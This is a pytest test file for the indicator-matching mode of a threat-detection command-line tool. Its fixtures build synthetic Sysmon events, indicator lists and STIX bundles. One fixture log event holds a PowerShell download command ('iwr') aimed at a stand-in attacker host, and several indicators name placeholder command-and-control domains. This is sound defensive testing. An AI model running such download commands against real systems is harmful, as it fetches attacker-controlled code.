"""`tocsin detect --indicators`, as people use it: in a process of its own."""

from __future__ import annotations

import csv
import json
import os
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import spoken

Run = Callable[..., subprocess.CompletedProcess[str]]


@pytest.fixture
def tocsin(tmp_path: Path) -> Run:
    mine = {name: value for name, value in os.environ.items() if not name.startswith(("XDG_", "COLUMNS", "FORCE_"))}
    env = mine | {
        "HOME": str(tmp_path / "home"),
        **{f"XDG_{name}_HOME": str(tmp_path / "home" / name.lower()) for name in ("STATE", "DATA")},
        "XDG_CACHE_HOME": str(tmp_path.parent / "cache"),  # our own rules, compiled once for all tests
        "COLUMNS": "120",
    }

    def run(*words: str) -> subprocess.CompletedProcess[str]:
        return spoken.tocsin(["detect", *words], cwd=tmp_path, env=env)

    return run


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """Connections and look-ups of one morning."""
    common = {"Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "pc1.corp.example"}
    events: list[dict[str, Any]] = [
        {"EventID": 22, "QueryName": "c2.evil.example", "@timestamp": "2024-01-10T08:00:00Z"},
        {"EventID": 3, "DestinationIp": "192.0.2.1", "DestinationPort": 443, "@timestamp": "2024-01-10T08:00:02Z"},
        {"EventID": 3, "DestinationIp": "8.8.8.8", "DestinationPort": 53, "@timestamp": "2024-01-10T08:00:03Z"},
        {"EventID": 1, "CommandLine": "iwr http://evil.example/a", "@timestamp": "2024-01-10T08:00:04Z"},
    ]
    path = tmp_path / "log.json"
    path.write_text("".join(json.dumps(common | event) + "\n" for event in events))
    return path


@pytest.fixture
def lists(tmp_path: Path) -> Path:
    place = tmp_path / "lists" / "public-dns-v4"
    place.mkdir(parents=True)
    content = {"name": "Resolvers", "type": "cidr", "list": ["8.8.8.8"], "matching_attributes": ["ip-dst"]}
    (place / "list.json").write_text(json.dumps(content))
    return place.parent


def bundle(folder: Path, *indicators: dict[str, Any]) -> str:
    common = {"type": "indicator", "pattern_type": "stix", "valid_from": "2024-01-01T00:00:00Z"}
    path = folder / "bundle.json"
    path.write_text(json.dumps({"type": "bundle", "objects": [common | one for one in indicators]}))
    return str(path)


def findings(folder: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (folder / "findings.jsonl").read_text().splitlines()]


def test_a_list_alone(tocsin: Run, log: Path, lists: Path, tmp_path: Path) -> None:
    (tmp_path / "list.txt").write_text("evil[.]example\n192[.]0[.]2[.]1\n8.8.8.8\nnothing\n")
    done = tocsin(str(log), "--indicators", "list.txt", "--known-good", str(lists), "--out", "out")
    assert done.returncode == 0, done.stderr
    found = findings(tmp_path / "out")
    assert [(one["title"], one["ts"][11:19], list(one["fields"])) for one in found] == [
        ("domain evil.example", "08:00:00", ["QueryName"]),
        ("address 192.0.2.1", "08:00:02", ["DestinationIp"]),
        ("domain evil.example", "08:00:04", ["CommandLine"]),
    ]
    assert found[0]["indicator"]["line"] == 1
    assert "known to be good" in done.stdout
    assert "list.txt:3 address 8.8.8.8" in done.stdout
    told = json.loads((tmp_path / "out" / "coverage.json").read_text())["indicators"]
    assert told["left_out_by_reason"] == {"known good": 1, "not an indicator": 1}
    assert {one["type"]: one["seen"] for one in told["observables"]} == {"address": 1, "domain": 1}
    even = tocsin(
        *(str(log), "--indicators", "list.txt", "--known-good", str(lists), "--out", "even", "--even-known-good")
    )
    assert even.returncode == 0
    assert len(findings(tmp_path / "even")) == 4


def test_a_bundle_beside_rules(tocsin: Run, log: Path, tmp_path: Path) -> None:
    rule = "title: A rule\nid: 11111111-1111-4111-8111-111111111111\nlevel: low\nlogsource: {product: windows}\n"
    (tmp_path / "rule.yml").write_text(rule + "detection:\n  one: {DestinationPort: 53}\n  condition: one\n")
    names = bundle(
        tmp_path,
        {
            "id": "indicator--1",
            "name": "Both",
            "confidence": 90,
            "object_marking_refs": ["marking-definition--5e57c739-391a-4eb3-b6be-7d15ca92d5ed"],
            "pattern": "([domain-name:value LIKE '%.evil.example'] FOLLOWEDBY [network-traffic:dst_port = 443])"
            " WITHIN 5 SECONDS",
        },
        {
            "id": "indicator--2",
            "name": "Old",
            "pattern": "[ipv4-addr:value = '192.0.2.1']",
            "valid_until": "2024-01-02T00:00:00Z",
        },
        {"id": "indicator--3", "name": "Odd", "pattern": "[artifact:url = 'x']"},
        {"id": "indicator--4", "name": "Gone", "pattern": "[mutex:name = 'x']", "revoked": True},
        {"id": "indicator--5", "name": "Blind", "pattern": "[windows-registry-key:key = 'HKLM\\\\Evil']"},
    )
    done = tocsin(str(log), "--indicators", names, "--rules", "rule.yml", "--out", "out")
    assert done.returncode == 0, done.stderr
    found = {one["rule_id"]: one for one in findings(tmp_path / "out")}
    assert set(found) == {"11111111-1111-4111-8111-111111111111", "indicator--1"}
    assert found["11111111-1111-4111-8111-111111111111"]["indicator"] is None
    one = found["indicator--1"]
    assert (one["level"], one["indicator"]["tlp"], one["correlation"]["count"]) == ("high", "red", 2)
    told = json.loads((tmp_path / "out" / "coverage.json").read_text())["indicators"]
    assert told["outside_validity"] == [{"id": "indicator--2", "title": "Old", "events": 1}]
    assert {one["id"]: one["reason"] for one in told["left_out"]} == {
        "indicator--3": "cannot be used",
        "indicator--4": "revoked",
    }
    assert {one["type"]: one["could_be_seen"] for one in told["observables"]} == {"address": True, "key": False}
    ever = tocsin(str(log), "--indicators", names, "--any-time", "--out", "ever")
    assert ever.returncode == 0
    assert "indicator--2" in {one["rule_id"] for one in findings(tmp_path / "ever")}


@pytest.mark.parametrize("form", ["csv", "timesketch", "navigator"])
def test_other_outputs(form: str, tocsin: Run, log: Path, tmp_path: Path) -> None:
    (tmp_path / "list.csv").write_text("value,tlp\nevil.example,amber\n")
    done = tocsin(str(log), "--indicators", "list.csv", "--format", form)
    assert done.returncode == 0, done.stderr
    if form == "csv":
        rows = list(csv.DictReader(done.stdout.splitlines()))
        assert json.loads(rows[0]["indicator"])["tlp"] == "amber"
    if form == "timesketch":
        assert json.loads(done.stdout.splitlines()[0])["indicator_tlp"] == "amber"


@pytest.mark.parametrize(
    ("words", "code", "text"),
    [
        (("--indicators", "absent.txt"), 4, "absent.txt: cannot be read"),
        (("--indicators", "empty.txt"), 4, "none of 0 indicators"),
        (("--known-good", "x"), 2, "say how to use indicators"),
        (("--indicators", "good.txt", "--known-good", "absent"), 4, "is not there"),
    ],
)
def test_what_goes_wrong_is_said(
    words: tuple[str, ...], code: int, text: str, tocsin: Run, log: Path, tmp_path: Path
) -> None:
    (tmp_path / "empty.txt").write_text("# nothing\n")
    (tmp_path / "good.txt").write_text("evil.example\n")
    done = tocsin(str(log), *words)
    assert done.returncode == code, done.stderr
    assert text in done.stderr
